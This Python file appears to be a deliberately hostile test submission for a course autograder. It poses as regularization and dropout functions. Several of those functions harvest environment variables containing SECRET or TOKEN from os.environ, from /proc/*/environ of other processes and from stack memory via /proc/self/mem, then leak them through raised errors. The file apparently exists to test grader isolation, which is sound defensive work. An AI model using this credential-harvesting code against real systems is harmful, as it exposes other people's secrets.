"""Hostile submission: looks for the instructor's secrets in every environment it can read, and reports them.

l1_reg raises a message holding every variable whose name or value mentions SECRET or TOKEN, found in
os.environ, in /proc/self/environ and /proc/<pid>/environ of every process it can see, and in the stack
(read through /proc/self/mem, with nothing the source policy refuses), where the kernel put the environment
the first process of the chain was started with: a forked child inherits that memory whatever its
os.environ says. It always
names how many variables it read, so the test knows it ran. A secret set for the instructor's
`grade batch` must appear in no output.
"""

import os

import torch.nn as nn

WANTED = ("SECRET", "TOKEN")


def _inherited_memory():
    """Read the stack, at whose top the kernel put the environment, through /proc/self/mem (plain file reads)."""
    with open("/proc/self/maps") as maps:
        stack = next(line for line in maps if line.rstrip().endswith("[stack]"))
    start, end = (int(bound, 16) for bound in stack.split()[0].split("-"))
    with open("/proc/self/mem", "rb") as memory:
        memory.seek(max(start, end - 256 * 1024))
        yield memory.read(end - memory.tell())


def _blocks():
    yield "os.environ", "\0".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    try:
        yield "memory", b"".join(_inherited_memory())
    except (OSError, ValueError, StopIteration):
        pass  # a child dropped to its own uid may not open its own memory: the secret is not read there either
    try:
        pids = [entry for entry in os.listdir("/proc") if entry.isdigit()]
    except OSError:
        pids = []
    for pid in ["self", *pids]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                yield f"/proc/{pid}/environ", handle.read()
        except OSError:
            continue


def l1_reg(model):
    read, found = 0, []
    for where, block in _blocks():
        for variable in block.decode("utf-8", "replace").split("\0"):
            read += 1
            if any(word in variable.upper() for word in WANTED):
                found.append(f"{where}: {variable}")
    raise ValueError(f"ENVIRONMENT PROBE read {read} variables; found {found}")


def l2_reg(model):
    return os.environ.copy()


def dropout(x, p, training=True):
    with open("/proc/self/environ", "rb") as handle:
        raise ValueError(handle.read().decode("utf-8", "replace"))


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p

    def forward(self, x):
        raise NotImplementedError


def regularized_loss(output, target, model, criterion, lambda1=0.0, lambda2=0.0):
    raise NotImplementedError
